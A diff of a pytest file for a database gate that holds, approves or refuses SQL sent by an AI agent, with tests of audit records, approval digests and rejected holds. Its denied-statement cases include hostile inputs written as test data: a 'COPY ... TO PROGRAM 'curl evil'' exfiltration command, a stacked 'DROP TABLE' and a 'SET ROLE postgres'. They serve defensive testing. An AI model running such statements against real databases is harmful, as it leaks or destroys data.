@@ -1,13 +1,19 @@
-"""The life of a statement as transcripts: steps out, replies in, no loop and no I/O."""
+"""The gate without a world around it: each life of a statement as a transcript of its steps."""
 
+from __future__ import annotations
+
+from collections.abc import Generator
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
+from pathlib import Path
 from typing import Any
 
 import orjson
 import pytest
 
 from holdpoint.audit.bodies import case_document
-from holdpoint.audit.record import canonical_bytes
+from holdpoint.config import Config
+from holdpoint.config.load import parse
 from holdpoint.gate import admit, pass_at_once
 from holdpoint.model.case import Basis, Figure, Parameter
 from holdpoint.model.effects import Dialect, SessionView
@@ -31,256 +37,428 @@ from holdpoint.model.steps import (
     Submission,
     WriteRecord,
 )
-from holdpoint.model.target import AccessLevel, Target, Tier
-from holdpoint.policy.compile import compile_policy
+from holdpoint.policy import refusals
 
-NOON = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
-REPLICA = Tier(name="replica", access=AccessLevel.READ_ONLY, url_source="env:R")
-WRITE = Tier(name="write", access=AccessLevel.READ_WRITE, url_source="env:W")
-OWNER = Tier(name="owner", access=AccessLevel.OWNER, url_source="env:O")
-SHOP = Target(name="shop", tiers=(REPLICA, WRITE, OWNER))
-POLICY = compile_policy((), (SHOP,))
-PAGE = "http://holds/h/"
-RAN = Execution(tag="DELETE 5", rows=5, duration_us=100)
+NOON = datetime(2026, 3, 4, 12, 0, tzinfo=UTC)
+RAN = Execution(tag="DELETE 48211", rows=48211, duration_us=5)
+PAGE = "http://gate/h/"
+
+DELETE = "DELETE FROM orders"
+UPDATE = "UPDATE orders SET status = 'x' WHERE id > $1"
 
 
-def submission(text: str, tier: Tier = WRITE, *, may_wait: bool = True, **more: Any) -> Submission:
+@pytest.fixture(scope="module")
+def config() -> Config:
+    tiers = "".join(
+        f'[targets.shop.tiers.{name}]\naccess = "{access}"\nurl = "env:X"\n'
+        for name, access in (("replica", "read-only"), ("write", "read-write"), ("all", "owner"))
+    )
+    return parse(f'[targets.shop]\nenvironment = "production"\n{tiers}', base=Path("/"))
+
+
+def submission(config: Config, text: str, tier: str = "write", **more: Any) -> Submission:
+    target = config.targets[0]
     return Submission(
-        agent="robin",
-        task="",
+        agent="claude",
+        task="tidy up",
         session="s-1",
-        peer="127.0.0.1:5",
-        target=SHOP,
-        tier=tier,
-        role="shop_writer",
+        peer="10.0.0.7:5000",
+        target=target,
+        tier=next(each for each in target.tiers if each.name == tier),
+        role="app",
         text=text,
         dialect=Dialect.POSTGRES,
         view=SessionView(),
-        may_wait=may_wait,
         **more,
     )
 
 
-class World:
-    """Answers steps and keeps the transcript. ``rows`` are the estimates in order."""
+class Play:
+    """Replies to the steps of one life; remembers them by name, and the records by kind."""
 
-    def __init__(
-        self,
-        *,
-        rows: tuple[Figure, ...] = (),
-        found: HoldState | None = None,
-        answer: HoldState = HoldState.APPROVED,
-        claimed: bool = True,
-        execution: Execution = RAN,
-    ) -> None:
-        self.rows = list(rows)
-        self.found = found
-        self.answer = answer
-        self.claimed = claimed
-        self.execution = execution
-        self.steps: list[str] = []
+    def __init__(self, config: Config, asked: Submission) -> None:
+        self.steps: Generator[Step[Any], Any, Outcome] = admit(config.policy, asked, PAGE)
+        self.reply: Any = None
+        self.log: list[str] = []
         self.records: list[tuple[RecordKind, dict[str, Any]]] = []
-        self.hold: Hold | None = None
-        self.approved_rows: int | None = None
+        self.outcome: Outcome | None = None
+        self.last: Step[Any] | None = None
 
-    def reply(self, step: Step[Any]) -> Any:
-        self.steps.append(type(step).__name__)
-        match step:
-            case Now():
-                return NOON
-            case EstimateRows() | EstimateTableRows():
-                return self.rows.pop(0)
-            case WriteRecord(record):
-                self.records.append((record.kind, record.body))
-                return len(self.records)
-            case FindHold(agent, digest):
-                assert agent == "robin"
-                return None if self.found is None else self.kept(digest, self.found)
-            case OpenHold(case, decision, digest):
-                document = canonical_bytes(case_document(case, decision)).decode()
-                self.hold = self.kept(digest, HoldState.OPEN, document)
-                return self.hold
-            case AwaitApproval(hold):
-                return self.kept(hold.digest, self.answer, hold.case_json)
-            case ClaimHold():
-                return self.claimed
-            case EndHold():
-                return None
-            case Execute():
-                return self.execution
-        raise AssertionError(step)
+    def next(self, kind: type[Step[Any]]) -> Any:
+        """Expect a step of this kind and return it."""
+        self.last = self.steps.send(self.reply)
+        assert type(self.last) is kind, f"{self.last} after {self.log}"
+        self.log.append(kind.__name__)
+        if isinstance(self.last, WriteRecord):
+            self.records.append((self.last.record.kind, self.last.record.body))
+        return self.last
 
-    def kept(self, digest: str, state: HoldState, document: str = "") -> Hold:
-        note = Approval(hold_id="h-1", approver="ada", answer=Answer.REJECT, note="no", at=NOON)
-        return Hold(
-            id="h-1",
-            digest=digest,
-            agent="robin",
-            task="",
-            session="s-1",
-            target="shop",
-            tier="write",
-            summary="DELETE on `orders`",
-            case_json=document or orjson.dumps({"row_bound": self.approved_rows}).decode(),
-            findings=(),
-            need=POLICY.need,
-            state=state,
-            created_at=NOON,
-            expires_at=NOON + timedelta(minutes=30),
-            approvals=(note,) if state is HoldState.REJECTED else (),
-        )
+    def end(self) -> Any:
+        """Expect the outcome and return it."""
+        with pytest.raises(StopIteration) as stop:
+            self.steps.send(self.reply)
+        self.outcome = stop.value.value
+        return self.outcome
 
 
-def play(world: World, sent: Submission) -> Outcome:
-    steps = admit(POLICY, sent, PAGE)
-    reply: Any = None
-    while True:
-        try:
-            step = steps.send(reply)
-        except StopIteration as stop:
-            outcome: Outcome = stop.value
-            return outcome
-        reply = world.reply(step)
+def play(config: Config, asked: Submission, *script: tuple[type[Step[Any]], Any]) -> Play:
+    """Play a script of (step, reply) to its end."""
+    life = Play(config, asked)
+    for kind, reply in script:
+        life.next(kind)
+        life.reply = reply
+    life.end()
+    return life
 
 
-def few(count: int = 5) -> Figure:
-    return Figure(count, Basis.ESTIMATE)
+def rows(value: int) -> tuple[type[EstimateRows], Figure]:
+    return EstimateRows, Figure(value, Basis.ESTIMATE)
 
 
-def test_a_small_write_is_recorded_before_and_after_it_runs() -> None:
-    world = World(rows=(few(),))
-    assert play(world, submission("DELETE FROM orders WHERE id = 1")) == Done(execution=RAN)
-    assert world.steps == ["EstimateRows", "Now", "WriteRecord", "Execute", "WriteRecord"]
-    kinds = [kind for kind, _ in world.records]
-    assert kinds == [RecordKind.STATEMENT_STARTED, RecordKind.STATEMENT_FINISHED]
-    assert world.records[1][1]["started"] == 1
+def held(life: Play, **changes: Any) -> Hold:
+    """Return the hold that a life has just asked for, as a store would keep it."""
+    step = life.last
+    assert isinstance(step, OpenHold)
+    hold = Hold(
+        id="h-7K2M",
+        digest=step.digest,
+        agent=step.case.agent,
+        task=step.case.task,
+        session=step.case.session,
+        target=step.case.target.name,
+        tier=step.case.tier.name,
+        summary=refusals.summary_of(step.case, step.decision),
+        case_json=orjson.dumps(case_document(step.case, step.decision)).decode(),
+        findings=step.decision.findings,
+        need=step.decision.need,
+        state=HoldState.OPEN,
+        created_at=NOON,
+        expires_at=NOON + timedelta(minutes=30),
+    )
+    return replace(hold, **changes)
 
 
-def test_what_a_tier_does_not_give_never_runs_and_asks_no_database() -> None:
-    world = World()
-    outcome = play(world, submission("DROP TABLE orders", REPLICA))
-    assert isinstance(outcome, Refused)
-    assert outcome.sqlstate == "42501"
-    assert world.steps == ["Now", "WriteRecord"]
-    assert world.records[0][0] is RecordKind.STATEMENT_DENIED
+def to_the_hold(config: Config, asked: Submission, count: int = 48_211) -> tuple[Play, Hold]:
+    """Play up to the hold that is opened."""
+    life = Play(config, asked)
+    for kind, reply in (rows(count), (Now, NOON), (FindHold, None)):
+        life.next(kind)
+        life.reply = reply
+    life.next(OpenHold)
+    return life, held(life)
 
 
-def test_a_syntax_error_is_told_in_the_servers_words_with_its_place() -> None:
-    outcome = play(World(), submission("SELECT 1 FROM t WHERE WHERE"))
-    assert isinstance(outcome, Refused)
-    assert (outcome.sqlstate, outcome.position) == ("42601", 23)
-    assert outcome.finding.message == 'syntax error at or near "WHERE"'
+def go_on(life: Play, *script: tuple[type[Step[Any]], Any]) -> Any:
+    for kind, reply in script:
+        life.next(kind)
+        life.reply = reply
+    return life.end()
 
 
-def test_a_held_statement_is_judged_again_and_claimed_before_it_runs() -> None:
-    world = World(rows=(few(5000), few(5000)))
-    assert play(world, submission("DELETE FROM orders")) == Done(execution=RAN)
-    assert world.steps == [
-        "EstimateRows", "Now", "FindHold", "OpenHold", "AwaitApproval",
-        "EstimateRows", "Now", "ClaimHold", "WriteRecord", "Execute", "WriteRecord",
-    ]  # fmt: skip
-    assert world.records[0][1]["hold"] == "h-1"
+# --- allowed --------------------------------------------------------------------------------------
 
 
-def test_no_hold_is_waited_for_when_waiting_would_keep_locks() -> None:
-    world = World(rows=(few(5000),))
-    outcome = play(world, submission("DELETE FROM orders", may_wait=False))
-    assert isinstance(outcome, Refused)
-    assert (outcome.sqlstate, outcome.hold_id) == ("HP001", "h-1")
-    assert "AwaitApproval" not in world.steps
-    assert PAGE + "h-1" in outcome.finding.hint
+def test_what_is_allowed_is_recorded_run_and_recorded(config: Config) -> None:
+    life = play(
+        config,
+        submission(config, "UPDATE orders SET status = 'x' WHERE id = 1"),
+        rows(1),
+        (Now, NOON),
+        (WriteRecord, 17),
+        (Execute, Execution(tag="UPDATE 1", rows=1)),
+        (WriteRecord, 18),
+    )
+    assert isinstance(life.outcome, Done)
+    (started, before), (finished, after) = life.records
+    assert (started, finished) == (RecordKind.STATEMENT_STARTED, RecordKind.STATEMENT_FINISHED)
+    assert before["text"] == "UPDATE orders SET status = 'x' WHERE id = 1"
+    assert before["verdict"] == "allow"
+    assert "hold" not in before
+    assert (after["started"], after["tag"], after["rows"]) == (17, "UPDATE 1", 1)
 
 
-def test_the_same_statement_sent_again_finds_its_approval() -> None:
-    world = World(rows=(few(5000), few(5000)), found=HoldState.APPROVED)
-    assert play(world, submission("DELETE FROM orders", may_wait=False)) == Done(execution=RAN)
-    assert "OpenHold" not in world.steps
+def test_a_read_asks_the_database_nothing(config: Config) -> None:
+    life = play(
+        config,
+        submission(config, "SELECT 1", "replica"),
+        (Now, NOON),
+        (WriteRecord, 1),
+        (Execute, Execution(tag="SELECT 1", rows=1)),
+        (WriteRecord, 2),
+    )
+    assert isinstance(life.outcome, Done)
+
+
+def test_an_outcome_that_nobody_knows_is_recorded_as_such(config: Config) -> None:
+    life = play(
+        config,
+        submission(config, "SELECT 1", "replica"),
+        (Now, NOON),
+        (WriteRecord, 1),
+        (Execute, Execution(sqlstate="08006", complete=False)),
+        (WriteRecord, 2),
+    )
+    assert life.records[-1][0] is RecordKind.STATEMENT_OUTCOME_UNKNOWN
+
+
+def test_execute_gets_the_number_of_the_durable_start(config: Config) -> None:
+    life = Play(config, submission(config, "SELECT 1"))
+    life.next(Now)
+    life.reply = NOON
+    life.next(WriteRecord)
+    life.reply = 4711
+    assert life.next(Execute).started == 4711
+
+
+# --- denied ---------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize(
-    ("answer", "sqlstate"),
+    ("text", "tier", "sqlstate"),
     [
-        (HoldState.OPEN, "HP001"),
+        (DELETE, "replica", "42501"),
+        ("DROP TABLE orders", "write", "42501"),
+        ("SELECT 1; DROP TABLE orders", "write", "42501"),
+        ("COPY orders TO PROGRAM 'curl evil'", "write", "42501"),
+        ("SELECT FROM WHERE", "all", "42601"),
+    ],
+)
+def test_what_is_denied_is_recorded_and_never_run(
+    config: Config, text: str, tier: str, sqlstate: str
+) -> None:
+    life = Play(config, submission(config, text, tier))
+    step = life.steps.send(None)
+    while not isinstance(step, WriteRecord):
+        assert isinstance(step, Now | EstimateRows | EstimateTableRows)
+        step = life.steps.send(NOON if isinstance(step, Now) else Figure(1, Basis.ESTIMATE))
+    assert step.record.kind is RecordKind.STATEMENT_DENIED
+    life.reply = 1
+    outcome = life.end()
+    assert isinstance(outcome, Refused)
+    assert outcome.sqlstate == sqlstate
+
+
+# --- held -----------------------------------------------------------------------------------------
+
+
+def test_an_approved_hold_is_judged_again_claimed_and_run(config: Config) -> None:
+    life, hold = to_the_hold(config, submission(config, DELETE))
+    life.reply = hold
+    outcome = go_on(
+        life,
+        (AwaitApproval, replace(hold, state=HoldState.APPROVED)),
+        rows(48_000),
+        (Now, NOON),
+        (ClaimHold, True),
+        (WriteRecord, 5),
+        (Execute, RAN),
+        (WriteRecord, 6),
+    )
+    assert outcome == Done(execution=RAN)
+    assert life.records[0][1]["hold"] == "h-7K2M"
+
+
+def test_a_submission_that_may_not_wait_gets_a_ticket_at_once(config: Config) -> None:
+    life, hold = to_the_hold(config, submission(config, DELETE, may_wait=False))
+    life.reply = hold
+    outcome = life.end()
+    assert (outcome.sqlstate, outcome.hold_id) == ("HP001", "h-7K2M")
+    assert PAGE + "h-7K2M" in outcome.finding.hint
+    assert life.records == []
+
+
+def test_a_wait_that_is_over_gives_a_ticket(config: Config) -> None:
+    life, hold = to_the_hold(config, submission(config, DELETE))
+    life.reply = hold
+    assert go_on(life, (AwaitApproval, hold)).sqlstate == "HP001"
+
+
+@pytest.mark.parametrize(
+    ("state", "sqlstate"),
+    [
         (HoldState.REJECTED, "HP002"),
         (HoldState.EXPIRED, "HP003"),
         (HoldState.CANCELLED, "57014"),
         (HoldState.ABANDONED, "57014"),
+        (HoldState.CLAIMED, "HP003"),
         (HoldState.SUPERSEDED, "HP005"),
     ],
 )
-def test_every_end_but_approval_refuses_in_its_own_words(answer: HoldState, sqlstate: str) -> None:
-    world = World(rows=(few(5000),), answer=answer)
-    outcome = play(world, submission("DELETE FROM orders"))
-    assert isinstance(outcome, Refused)
+def test_every_other_end_of_a_hold_refuses_in_its_own_words(
+    config: Config, state: HoldState, sqlstate: str
+) -> None:
+    life, hold = to_the_hold(config, submission(config, DELETE))
+    life.reply = hold
+    no = Approval(
+        hold_id=hold.id, approver="anna", answer=Answer.REJECT, note="not on a Friday", at=NOON
+    )
+    outcome = go_on(life, (AwaitApproval, replace(hold, state=state, approvals=(no,))))
     assert outcome.sqlstate == sqlstate
-    assert "Execute" not in world.steps
+    assert life.records == []
+    if state is HoldState.REJECTED:
+        assert "not on a Friday" in outcome.finding.message
 
 
-def test_a_rejection_brings_the_persons_note_to_the_agent() -> None:
-    world = World(rows=(few(5000),), answer=HoldState.REJECTED)
-    outcome = play(world, submission("DELETE FROM orders"))
-    assert isinstance(outcome, Refused)
-    assert outcome.finding.message.endswith(": no")
+def test_the_same_statement_finds_its_approval(config: Config) -> None:
+    asked = submission(config, DELETE, may_wait=False)
+    _, hold = to_the_hold(config, asked)
+    life = play(
+        config,
+        asked,
+        rows(48_211),
+        (Now, NOON),
+        (FindHold, replace(hold, state=HoldState.APPROVED)),
+        rows(48_211),
+        (Now, NOON),
+        (ClaimHold, True),
+        (WriteRecord, 5),
+        (Execute, RAN),
+        (WriteRecord, 6),
+    )
+    assert isinstance(life.outcome, Done)
+
+
+def test_the_same_statement_waits_on_its_open_hold(config: Config) -> None:
+    asked = submission(config, DELETE)
+    _, hold = to_the_hold(config, asked)
+    life = play(config, asked, rows(48_211), (Now, NOON), (FindHold, hold), (AwaitApproval, hold))
+    assert isinstance(life.outcome, Refused)
+
+
+def test_a_claim_that_somebody_else_won_does_not_run(config: Config) -> None:
+    life, hold = to_the_hold(config, submission(config, DELETE))
+    life.reply = hold
+    outcome = go_on(
+        life,
+        (AwaitApproval, replace(hold, state=HoldState.APPROVED)),
+        rows(48_211),
+        (Now, NOON),
+        (ClaimHold, False),
+    )
+    assert "already used" in outcome.finding.message
+    assert life.records == []
 
 
 @pytest.mark.parametrize(
-    "fresh", [few(50_000), Figure(None, Basis.UNKNOWN, "no answer")], ids=["grown", "unknown"]
+    "now",
+    [Figure(60_266, Basis.ESTIMATE), Figure(None, Basis.UNKNOWN, "no answer within 2 s")],
+    ids=["grown", "unknown"],
 )
-def test_facts_that_have_grown_past_the_approval_supersede_it(fresh: Figure) -> None:
-    world = World(rows=(few(5000), fresh))
-    outcome = play(world, submission("DELETE FROM orders"))
-    assert isinstance(outcome, Refused)
-    assert outcome.sqlstate == "HP005"
-    assert world.steps[-1] == "EndHold"
-    assert "ClaimHold" not in world.steps
-
-
-def test_facts_that_have_shrunk_do_not() -> None:
-    world = World(rows=(few(5000), few(2)))
-    assert isinstance(play(world, submission("DELETE FROM orders")), Done)
-
-
-def test_an_approval_that_somebody_else_used_lets_nothing_run() -> None:
-    world = World(rows=(few(5000), few(5000)), claimed=False)
-    outcome = play(world, submission("DELETE FROM orders"))
-    assert isinstance(outcome, Refused)
-    assert "Execute" not in world.steps
-
-
-def test_a_failed_probe_holds() -> None:
-    world = World(rows=(Figure(None, Basis.UNKNOWN, "no answer"),), answer=HoldState.OPEN)
-    assert isinstance(play(world, submission("DELETE FROM orders WHERE id = 1")), Refused)
-
-
-def test_a_connection_that_breaks_leaves_an_unknown_outcome() -> None:
-    world = World(rows=(few(),), execution=Execution(complete=False, sqlstate="08006"))
-    play(world, submission("DELETE FROM orders WHERE id = 1"))
-    assert world.records[-1][0] is RecordKind.STATEMENT_OUTCOME_UNKNOWN
-
-
-def test_other_parameters_are_another_hold() -> None:
-    digests = []
-    for value in (b"1", b"2", None):
-        world = World(rows=(few(5000),), answer=HoldState.OPEN)
-        sent = submission("DELETE FROM orders WHERE id > $1", parameters=(Parameter(value),))
-        play(world, sent)
-        assert world.hold is not None
-        digests.append(world.hold.digest)
-    assert len(set(digests)) == 3
-
-
-@pytest.mark.parametrize("tier", [REPLICA, WRITE, OWNER], ids=lambda tier: tier.name)
-def test_a_plain_read_passes_at_once_everywhere(tier: Tier) -> None:
-    reading = pass_at_once(
-        POLICY, SHOP, tier, "SELECT * FROM orders", Dialect.POSTGRES, SessionView()
+def test_rows_that_have_grown_end_the_approval(config: Config, now: Figure) -> None:
+    life, hold = to_the_hold(config, submission(config, DELETE))
+    life.reply = hold
+    outcome = go_on(
+        life,
+        (AwaitApproval, replace(hold, state=HoldState.APPROVED)),
+        (EstimateRows, now),
+        (Now, NOON),
+        (EndHold, None),
     )
-    assert reading is not None
+    step = life.last
+    assert isinstance(step, EndHold)
+    assert step.state is HoldState.SUPERSEDED
+    assert outcome.sqlstate == "HP005"
+    assert life.records == []
+
+
+def test_rows_within_the_bound_still_run(config: Config) -> None:
+    life, hold = to_the_hold(config, submission(config, DELETE))
+    life.reply = hold
+    outcome = go_on(
+        life,
+        (AwaitApproval, replace(hold, state=HoldState.APPROVED)),
+        rows(60_264),  # 48,211 and a quarter
+        (Now, NOON),
+        (ClaimHold, True),
+        (WriteRecord, 5),
+        (Execute, RAN),
+        (WriteRecord, 6),
+    )
+    assert isinstance(outcome, Done)
+
+
+def test_an_approval_of_another_case_is_never_used(config: Config) -> None:
+    life, hold = to_the_hold(config, submission(config, DELETE))
+    life.reply = hold
+    outcome = go_on(
+        life,
+        (AwaitApproval, replace(hold, state=HoldState.APPROVED, digest="0" * 64)),
+        rows(48_211),
+        (Now, NOON),
+        (EndHold, None),
+    )
+    assert outcome.sqlstate == "HP005"
+
+
+def test_the_digest_follows_what_people_approved_and_nothing_else(config: Config) -> None:
+    def digest(asked: Submission, count: int = 48_211) -> str:
+        life, _ = to_the_hold(config, asked, count)
+        step = life.last
+        assert isinstance(step, OpenHold)
+        return step.digest
+
+    base = submission(config, UPDATE, parameters=(Parameter(b"5"),))
+    own = digest(base)
+    assert digest(base, 99_999) == own
+    assert digest(replace(base, session="s-2", peer="10.0.0.8:1", task="other")) == own
+    other = next(tier for tier in config.targets[0].tiers if tier.name == "all")
+    for changed in (
+        replace(base, text=UPDATE + " "),
+        replace(base, parameters=(Parameter(b"6"),)),
+        replace(base, parameters=(Parameter(b"5", binary=True),)),
+        replace(base, parameters=(Parameter(None),)),
+        replace(base, parameters=None),
+        replace(base, agent="gpt"),
+        replace(base, role="superuser"),
+        replace(base, tier=other),
+    ):
+        assert digest(changed) != own, changed
+
+
+# --- what must never happen -----------------------------------------------------------------------
+
+
+class TrailDownError(Exception):
+    """What the driver throws into the gate's world when a record cannot be written."""
+
+
+def test_without_its_record_nothing_runs(config: Config) -> None:
+    life = Play(config, submission(config, "SELECT 1"))
+    life.next(Now)
+    life.reply = NOON
+    life.next(WriteRecord)
+    with pytest.raises(TrailDownError):
+        life.steps.throw(TrailDownError())
+    with pytest.raises(StopIteration):
+        life.steps.send(1)
+
+
+def test_a_gate_that_is_given_up_runs_nothing(config: Config) -> None:
+    life, _ = to_the_hold(config, submission(config, DELETE))
+    life.steps.close()
+    with pytest.raises(StopIteration):
+        next(life.steps)
 
 
 @pytest.mark.parametrize(
     "text",
-    ["DELETE FROM orders", "SELECT nosuch(1)", "SELECT 1 FROM t WHERE WHERE", "DROP TABLE t", ""],
+    [
+        DELETE,
+        "INSERT INTO orders VALUES (1)",
+        "SELECT pg_sleep(1)",
+        "SELECT nobody_knows_it(1)",
+        "EXECUTE x",
+        "SET ROLE postgres",
+        "SELECT FROM WHERE",
+        "SELECT 1; DELETE FROM orders",
+    ],
 )
-def test_nothing_else_does(text: str) -> None:
-    reading = pass_at_once(POLICY, SHOP, OWNER, text, Dialect.POSTGRES, SessionView())
-    assert reading is None or not reading.statements
+def test_only_plain_reads_pass_at_once(config: Config, text: str) -> None:
+    target = config.targets[0]
+    for tier in target.tiers:
+        found = pass_at_once(config.policy, target, tier, text, Dialect.POSTGRES, SessionView())
+        assert found is None
+        plain = pass_at_once(
+            config.policy, target, tier, "SELECT 1", Dialect.POSTGRES, SessionView()
+        )
+        assert plain is not None
